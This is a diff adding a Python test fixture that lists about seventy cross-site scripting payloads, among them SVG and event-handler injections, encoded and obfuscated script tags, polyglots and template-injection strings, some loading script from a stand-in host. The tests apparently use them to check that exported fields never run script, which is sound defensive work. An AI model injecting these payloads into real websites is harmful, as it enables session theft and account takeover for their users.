@@ -1,0 +1,82 @@
+"""Words that have made browsers run scripts, each in every field that somebody else can fill."""
+
+from tests.export.hostile import HOSTILE_STRINGS
+
+# A script that ran leaves a mark on the window or opens a dialog; the tests look for both.
+FURTHER = (
+    "<svg><script>window.ran=1</script></svg>",
+    "<svg><script href='data:text/javascript,window.ran=1'/></svg>",
+    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:window.ran=1'><text x=20 y=20>x</text></a></svg>",
+    "<svg><set attributeName=href to=javascript:window.ran=1></svg>",
+    "</svg><img src=x onerror=window.ran=1>",
+    "</text></svg><script>window.ran=1</script>",
+    "</title></svg><svg onload=window.ran=1>",
+    "</desc><script>window.ran=1</script>",
+    "<foreignObject><iframe srcdoc='<script>parent.ran=1</script>'></foreignObject>",
+    "</textarea><script>window.ran=1</script>",
+    "</option></select><img src=x onerror=window.ran=1>",
+    "</noscript><img src=x onerror=window.ran=1>",
+    "</template><script>window.ran=1</script>",
+    "</details></summary><img src=x onerror=window.ran=1>",
+    "</table></bdi></q></mark><script>window.ran=1</script>",
+    "--><script>window.ran=1</script>",
+    "<!--><script>window.ran=1</script>",
+    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
+    "<ScRiPt>window.ran=1</sCrIpT>",
+    "<script\n>window.ran=1</script\n>",
+    "<script src=data:text/javascript,window.ran=1></script>",
+    "<script src=//bad.example/x.js></script>",
+    "<link rel=stylesheet href=//bad.example/x.css>",
+    "<link rel=import href=data:text/html,<script>window.ran=1</script>>",
+    "<object data=data:text/html,<script>parent.ran=1</script>></object>",
+    "<embed src=javascript:window.ran=1>",
+    "<video><source onerror=window.ran=1></video>",
+    "<audio src=x onerror=window.ran=1>",
+    "<details open ontoggle=window.ran=1>",
+    "<marquee onstart=window.ran=1>x</marquee>",
+    "<input autofocus onfocus=window.ran=1>",
+    "<body onload=window.ran=1>",
+    "<div style=animation-name:x onanimationstart=window.ran=1>",
+    "<p style='background:url(//bad.example/p.png)'>x</p>",
+    "<dialog open><form method=dialog><button formaction=javascript:window.ran=1>x",
+    "<a href='java&#115;cript:window.ran=1'>x</a>",
+    "<a href='&#x6A;avascript:window.ran=1'>x</a>",
+    "javascript&colon;window.ran=1",
+    "\u2028<script>window.ran=1</script>",
+    "\ufeff<script>window.ran=1</script>",
+    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
+    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
+    "&lt;script&gt;window.ran=1&lt;/script&gt;",
+    "&amp;lt;img src=x onerror=window.ran=1&amp;gt;",
+    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
+    "\\x3cimg src=x onerror=window.ran=1\\x3e",
+    "' onclick=window.ran=1 '",
+    '" onclick="window.ran=1" x="',
+    "` onclick=`window.ran=1`",
+    "x onpointerenter=window.ran=1 y=",
+    "\"><svg onload=window.ran=1>'><svg onload=window.ran=1>",
+    "hx-on:load='window.ran=1'",
+    "<div hx-get=/ hx-trigger=load hx-on::after-request=window.ran=1>x</div>",
+    "<div data-hx-get='/' data-hx-trigger='load' hx-vals='js:{a:window.ran=1}'>x</div>",
+    "<p data-events=//bad.example/ data-then=javascript:window.ran=1>x</p>",
+    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onload=window.ran=1//'>",
+    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.ran=1 )//</stYle/</titLe/</sCript>",
+    "{{constructor.constructor('window.ran=1')()}}",
+    "${window.ran=1}",
+    "<%= window.ran=1 %>",
+    '#passage"><img src=x onerror=window.ran=1>',
+    "../../static/desk.js?<script>window.ran=1</script>",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.ran=1'/>",
+    "blob:https://bad.example/window.ran=1",
+    "feed:javascript:window.ran=1",
+    "view-source:javascript:window.ran=1",
+)
+
+
+def storable(words: str) -> str:
+    """The words as a database can keep them: no NUL, no half characters."""
+    return words.replace("\0", "").encode("utf-8", "replace").decode("utf-8")
+
+
+PAYLOADS = tuple(dict.fromkeys(map(storable, (*HOSTILE_STRINGS, *FURTHER))))
